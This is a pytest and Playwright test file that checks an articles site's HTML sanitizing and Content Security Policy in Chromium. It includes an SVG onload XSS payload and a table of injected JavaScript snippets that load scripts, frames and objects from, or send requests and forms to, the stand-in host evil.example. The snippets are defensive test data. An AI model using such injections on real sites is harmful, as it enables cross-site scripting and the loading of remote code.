"""Strangers' words in a browser: nothing runs; the policy blocks what would."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Page

from articles.content import markdown
from articles.models import Review
from articles.stages import Stage
from tests.cast import Cast
from tests.desk.site import in_stage, reading_pages
from tests.hostile import marked
from tests.hostile.corpus import BODIES
from tests.hostile.markup import TAGS

pytestmark = [pytest.mark.browser, pytest.mark.slow]

HOOK = """
window.ran = [];
window.pwned = () => window.ran.push(document.URL);
window.blocked = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.blocked.push(event.effectiveDirective);
});
"""
SAFE = json.dumps(sorted(tag.upper() for tag in TAGS))
PUT_IN = """([html]) => {
  const faults = (root) => [...root.querySelectorAll('*')].flatMap((element) => [
    ...(SAFE.includes(element.tagName) ? [] : [element.tagName]),
    ...element.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style'),
  ]);
  const box = document.createElement('div');
  box.innerHTML = html;
  const once = box.innerHTML;
  const again = document.createElement('div');
  again.innerHTML = once;
  return [...faults(box), ...faults(again), ...(again.innerHTML === once ? [] : ['changes'])];
}""".replace("SAFE", SAFE)


def watched(at: Any) -> list[str]:
    """What strangers' words tried or did, on every page that is opened from now on."""
    heard: list[str] = []
    at.page.add_init_script(HOOK)
    at.page.on("dialog", lambda dialog: (heard.append(dialog.message), dialog.dismiss()))
    return heard


def test_no_marker_runs_on_any_page(cast: Cast, visitor: Any) -> None:
    marked.build(cast)
    addresses = [page for page in reading_pages() if "/versions/" not in page]
    addresses += [
        "/admin/",
        "/admin/articles/ledgerentry/",
        "/admin/articles/importclaim/",
        f"/admin/articles/article/{in_stage(Stage.PUBLISHED).pk}/history/",
        *(f"/review/{review.pk}/?view=side" for review in Review.objects.all()),
        f"/articles/{Review.objects.latest('pk').round.article.slug}/comments/",
    ]
    draft = in_stage(Stage.DRAFT)
    found, opened = [], 0
    for username in ("wren", "ada", "edda", "cora"):
        at = visitor()
        at.sign_in(username)
        heard = watched(at)
        for address in [*addresses, f"/admin/articles/article/{draft.pk}/change/"]:
            page = at.open(address)
            page.evaluate("document.querySelectorAll('details').forEach((one) => one.open = true)")
            ran, blocked = page.evaluate("[window.ran, window.blocked]")
            found += [f"{username} {address}: {what}" for what in (*ran, *blocked, *heard)]
            opened += 1
        found += at.complaints
    print(f"{len(marked.FIELDS)} fields, {opened} pages opened in Chromium")
    assert found == []


def test_what_the_renderer_makes_stays_what_it_is_when_a_browser_reads_it(
    cast: Cast, visitor: Any
) -> None:
    """A browser repairs markup; no repair may turn words into an element."""
    at = visitor()
    watched(at)
    page, found = at.open("/login/"), {}
    for body in BODIES:
        if faults := page.evaluate(PUT_IN, [markdown.render(body).html]):
            found[body] = faults
    assert page.evaluate(PUT_IN, ["<svg onload=pwned()></svg>"]) != []
    assert page.evaluate("window.ran") == []
    assert found == {}


BLOCKED = {
    "an inline script": "const s = document.createElement('script'); s.textContent = 'pwned()';"
    "document.body.append(s)",
    "a handler in an attribute": "document.body.setAttribute('onclick', 'pwned()');"
    "document.body.click()",
    "an inline style": "const s = document.createElement('style'); s.textContent = 'p{color:red}';"
    "document.head.append(s)",
    "a style in an attribute": "document.body.innerHTML += '<p style=\"color:red\">x</p>'",
    "a script from elsewhere": "const s = document.createElement('script');"
    "s.src = 'https://evil.example/x.js'; document.body.append(s)",
    "a picture from elsewhere": "const i = new Image(); i.src = 'https://evil.example/p.png'",
    "a frame": "const f = document.createElement('iframe'); f.src = 'https://evil.example/';"
    "document.body.append(f)",
    "a request to elsewhere": "fetch('https://evil.example/').catch(() => 0)",
    "a form that leads elsewhere": "const f = document.createElement('form');"
    "f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
    "another base": "const b = document.createElement('base'); b.href = 'https://evil.example/';"
    "document.head.append(b)",
    "a plugin": "const o = document.createElement('object'); o.data = 'https://evil.example/x';"
    "document.body.append(o)",
    "an address that is a script": "location.href = 'javascript:pwned()'",
}


def tries(page: Page, script: str) -> list[str]:
    """What the policy blocked of a script that, say, a hole elsewhere let run."""
    page.evaluate(f"window.blocked = []; (() => {{ {script} }})()")
    page.wait_for_timeout(150)
    return list(page.evaluate("window.blocked"))


def test_the_policy_blocks_what_a_hole_elsewhere_would_let_in(cast: Cast, visitor: Any) -> None:
    draft = cast.draft()
    at = visitor()
    at.sign_in("wren")
    watched(at)
    pages = ("/", draft.get_absolute_url(), f"/admin/articles/article/{draft.pk}/change/")
    let_in = []
    for address in pages:
        for name, script in BLOCKED.items():
            page = at.open(address)
            assert page.evaluate("window.blocked") == [], f"{address} breaks its own policy"
            blocked, ran = tries(page, script), page.evaluate("window.ran")
            if not blocked or ran:
                let_in.append(f"{address}: {name}")
        page = at.open(address)
        # What the tools of a browser evaluate goes past the policy; a timer's text does not.
        if tries(page, "setTimeout('pwned()', 0)") == [] or page.evaluate("window.ran"):
            let_in.append(f"{address}: text that is evaluated")
    assert let_in == []
